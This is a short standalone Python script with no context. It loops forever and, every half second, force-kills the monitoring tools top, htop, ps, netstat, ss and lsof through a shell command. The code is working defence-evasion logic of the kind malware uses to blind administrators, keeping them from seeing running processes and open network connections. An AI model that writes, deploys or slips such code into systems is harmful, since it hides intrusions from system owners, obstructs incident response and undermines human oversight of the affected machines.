import subprocess
import time

while True:
    subprocess.run("killall -q -9 top htop ps netstat ss lsof", shell=True)
    time.sleep(0.5)
